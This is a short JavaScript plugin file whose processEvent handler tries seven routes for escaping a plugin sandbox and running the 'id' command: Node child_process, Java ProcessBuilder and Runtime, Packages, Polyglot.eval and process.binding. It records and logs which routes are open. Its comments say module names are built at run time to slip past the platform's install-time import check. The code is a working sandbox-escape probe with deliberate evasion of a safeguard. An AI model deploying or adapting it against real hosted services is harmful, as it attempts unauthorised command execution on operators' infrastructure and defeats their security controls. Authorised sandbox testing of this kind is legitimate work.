// Runs each escape route and records what it got in event.properties.escape_attempts:
// "refused: <error>" when the route failed, "OPEN: <what it returned>" when it worked. It also
// logs each result, so the app log shows what was tried. Module names are built at run time so
// the install-time import check does not refuse the app before the worker can be probed.
async function attempt(results, route, fn) {
  try {
    const value = await fn()
    results[route] = "OPEN: " + describe(value)
  } catch (e) {
    results[route] = "refused: " + describe(e && e.message !== undefined ? e.message : e)
  }
  console.log(route + " -> " + results[route])
}

function describe(value) {
  try {
    return String(value).slice(0, 200)
  } catch (e) {
    return typeof value
  }
}

const moduleName = (...parts) => parts.join("")

export async function processEvent(event) {
  const results = {}
  await attempt(results, "require child_process", () => require(moduleName("child", "_process")).execSync("id").toString())
  await attempt(results, "require node:child_process", () => require(moduleName("node:", "child_process")).spawnSync("id"))
  await attempt(results, "Java.type ProcessBuilder", () => new (Java.type("java.lang.ProcessBuilder"))("id").start())
  await attempt(results, "Java.type Runtime", () => Java.type("java.lang.Runtime").getRuntime().exec("id"))
  await attempt(results, "Packages Runtime", () => Packages.java.lang.Runtime.getRuntime().exec("id"))
  await attempt(results, "Polyglot.eval", () => Polyglot.eval("js", "Java.type('java.lang.Runtime')"))
  await attempt(results, "process.binding", () => process.binding("spawn_sync"))
  event.properties.escape_attempts = results
  return event
}
